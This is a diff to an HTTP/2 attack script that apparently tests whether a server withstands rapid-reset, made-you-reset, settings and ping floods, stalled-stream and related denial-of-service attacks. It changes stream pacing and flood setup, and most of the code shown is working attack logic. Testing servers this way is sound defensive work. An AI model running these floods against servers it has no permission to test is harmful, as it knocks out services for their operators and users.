@@ -9,12 +9,13 @@ of frames or seconds is spent, then prints one JSON line:
 
 "goaway": the server sent GOAWAY (error_code is its code) and closed or is closing;
 "closed": the connection ended without a GOAWAY; "survived": the budget was spent and the
-connection is still open, i.e. the server did not defend itself. client_port is the attack
+connection is still open, i.e. the server did not defend itself (for stalled-stream, which
+stops a second after the first reset, that the connection is rightly still open). client_port is the attack
 connection's own port, by which the server's log names it.
 
 Every attack starts the connection as a real client does (the server's SETTINGS are read and
-acknowledged). P is the path requested: the settings and ping floods, zero-window and
-stalled-stream want a large response, made-you-reset and empty-data-flood one that takes a request body.
+acknowledged). P is the path requested: zero-window and stalled-stream want a large response,
+made-you-reset and empty-data-flood one that takes a request body.
 
 usage: attack.py HOST PORT ATTACK [--seconds S] [--frames N] [--path P]
 attacks: rapid-reset, made-you-reset, continuation-flood, settings-flood, ping-flood,
@@ -37,8 +38,6 @@ from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, 
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 CANCEL = 0x8
-DEFAULT_WINDOW = 65535
-MAX_WINDOW = 2 ** 31 - 1
 FRAME_HEADER = 9
 
 
@@ -183,10 +182,16 @@ def run(attack, conn, budget_seconds, path):
         elif attack == "made-you-reset":
             # Each stream is opened, then made invalid so that the server itself must reset it,
             # in turn: a WINDOW_UPDATE of 0 on an open stream (RFC 9113 6.9), more DATA than the
-            # request's content-length (8.1.1), an upper-case field name (8.2.1).
+            # request's content-length (8.1.1), an upper-case field name (8.2.1). Each batch waits
+            # for the resets of the one before, so that the streams open never exceed the
+            # server's limit (a refused stream would make the DATA after it an error).
             conn.start_reader()
             stream = 1
             while not conn.ended() and not spent():
+                wait_until = time.monotonic() + 1
+                while (len(conn.reset_streams) < (stream - 1) // 2 and not conn.ended()
+                       and time.monotonic() < wait_until):
+                    time.sleep(0.001)
                 batch = []
                 for i in range(48):
                     kind = i % 3
@@ -220,13 +225,7 @@ def run(attack, conn, budget_seconds, path):
                 with conn.lock:
                     conn.send(*batch)
         elif attack in ("settings-flood", "ping-flood"):
-            # The client does not read: every frame asks for an answer that queues up. Large
-            # responses, with the windows opened wide, first fill the way to the client (the
-            # server's socket buffer), so that the answers queue up in the server at once.
-            conn.send(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: MAX_WINDOW}),
-                      WindowUpdateFrame(0, MAX_WINDOW - DEFAULT_WINDOW),
-                      *[conn.request_headers(stream, path=path) for stream in range(1, 128, 2)])
-            time.sleep(1)
+            # The client does not read: every frame asks for an answer that queues up.
             while not spent():
                 if attack == "settings-flood":
                     frames = [SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100})
@@ -263,11 +262,17 @@ def run(attack, conn, budget_seconds, path):
                 time.sleep(0.05)
         elif attack == "stalled-stream":
             # Stream windows of 0, then one stream is left stuck while another's response keeps
-            # moving (2 KiB per 0.1 s): the server must reset the stuck stream only.
+            # moving (2 KiB per 0.1 s): the server must reset the stuck stream only. Ends a
+            # second after the first reset, with the connection still open if all went well.
             conn.start_reader()
             with conn.lock:
                 conn.send(conn.request_headers(1, path=path), conn.request_headers(3, path=path))
+            first_reset = None
             while not conn.ended() and not spent():
+                if first_reset is None and conn.reset_streams:
+                    first_reset = time.monotonic()
+                if first_reset is not None and time.monotonic() - first_reset > 1:
+                    break
                 with conn.lock:
                     conn.send(WindowUpdateFrame(3, 2048), WindowUpdateFrame(0, 2048))
                 time.sleep(0.1)
